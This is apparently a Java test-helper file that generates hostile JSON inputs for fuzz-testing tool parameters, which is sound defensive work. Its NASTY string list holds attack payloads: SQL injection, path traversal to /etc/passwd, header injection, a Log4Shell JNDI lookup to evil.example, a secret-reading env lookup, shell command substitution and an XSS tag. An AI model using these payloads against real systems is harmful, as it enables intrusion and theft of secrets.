package io.centralbridge.hardening;

import java.math.BigInteger;
import java.util.List;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;

/** jqwik arbitraries of JSON values no tool parameter should choke on, whatever its schema says. */
final class HostileValues {

    private static final JsonNodeFactory F = JsonNodeFactory.instance;

    /** Strings an attacker or a confused agent sends: injection, traversal, control and odd unicode. */
    static final List<String> NASTY = List.of(
            "' OR 1=1 --", "\"; DROP TABLE tenants; --", "1; SELECT * FROM users",
            "../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2f", "/../partner/v1/tenants",
            "a\r\nX-Injected: 1", "\r\n\r\nGET / HTTP/1.1", "${jndi:ldap://evil.example/a}", "${env:SOPHOS_CLIENT_SECRET}",
            "%00", "a\u0000b", "\u0000", "{\"tenant_id\":\"x\"}", "[1,2,3]", "null", "true", "<script>alert(1)</script>",
            "\u202Eevil\u202C", "\u05E9\u05DC\u05D5\u05DD", "\uD83D\uDE00\uD83D\uDCA9", "\uD800", "\uDFFF", "a\uD800b",
            "\uFEFF", "\uFFFF", "  ", "", "#{7*7}", "{{7*7}}", "$(id)", "`id`", "http://evil.example/",
            "3fa85f64-5717-4562-b3fc-2c963f66afa6/../x", "3fa85f64-5717-4562-b3fc-2c963f66afa6%00",
            "3FA85F64-5717-4562-B3FC-2C963F66AFA6\n", "2026-13-45T99:99:99Z", "9999-12-31T23:59:59+25:00",
            "-1", "1e309", "NaN", "Infinity");

    private HostileValues() {
    }

    /** Any hostile JSON value: wrong types, out-of-range numbers, huge and odd strings, nesting. */
    static Arbitrary<JsonNode> any() {
        return Arbitraries.frequencyOf(
                net.jqwik.api.Tuple.of(4, strings()),
                net.jqwik.api.Tuple.of(3, numbers()),
                net.jqwik.api.Tuple.of(1, Arbitraries.of(F.booleanNode(true), F.booleanNode(false), F.nullNode())),
                net.jqwik.api.Tuple.of(2, containers()),
                net.jqwik.api.Tuple.of(1, deep()));
    }

    static Arbitrary<JsonNode> strings() {
        return Arbitraries.frequencyOf(
                net.jqwik.api.Tuple.of(5, Arbitraries.of(NASTY).map(F::textNode)),
                net.jqwik.api.Tuple.of(3, Arbitraries.strings().all().ofMaxLength(80).map(F::textNode)),
                net.jqwik.api.Tuple.of(1, Arbitraries.of("a", "\u202E", "\uD83D\uDE00", "../", "\u0000")
                        .map(s -> F.textNode(s.repeat(100_000 / s.length())))));
    }

    static Arbitrary<JsonNode> numbers() {
        return Arbitraries.oneOf(
                Arbitraries.longs().map(F::numberNode),
                Arbitraries.integers().between(-3, 3).map(F::numberNode),
                Arbitraries.doubles().map(F::numberNode),
                Arbitraries.of(new BigInteger("99999999999999999999999999"), BigInteger.valueOf(Long.MIN_VALUE)
                        .subtract(BigInteger.TEN)).map(F::numberNode),
                Arbitraries.of(1.5, -0.0, 1e308, -1e-308, 0.1).map(F::numberNode));
    }

    static Arbitrary<JsonNode> containers() {
        return Arbitraries.oneOf(
                Arbitraries.of(NASTY).list().ofMaxSize(5).map(l -> {
                    ArrayNode a = F.arrayNode();
                    l.forEach(a::add);
                    return (JsonNode) a;
                }),
                Arbitraries.integers().between(0, 3).map(n -> {
                    ObjectNode o = F.objectNode();
                    for (int i = 0; i < n; i++) {
                        o.put(NASTY.get(i), NASTY.get(i + 5));
                    }
                    return (JsonNode) o;
                }),
                Arbitraries.integers().between(0, 5000).map(n -> {
                    ArrayNode a = F.arrayNode();
                    for (int i = 0; i < n; i++) {
                        a.add("3fa85f64-5717-4562-b3fc-2c963f66afa6");
                    }
                    return (JsonNode) a;
                }));
    }

    /** Nesting deep enough to hurt a recursive reader, still under Jackson's parse limit of 1000. */
    static Arbitrary<JsonNode> deep() {
        return Arbitraries.integers().between(50, 900).map(depth -> {
            JsonNode n = F.textNode("x");
            for (int i = 0; i < depth; i++) {
                n = i % 2 == 0 ? F.arrayNode().add(n) : F.objectNode().set("a", n);
            }
            return n;
        });
    }
}
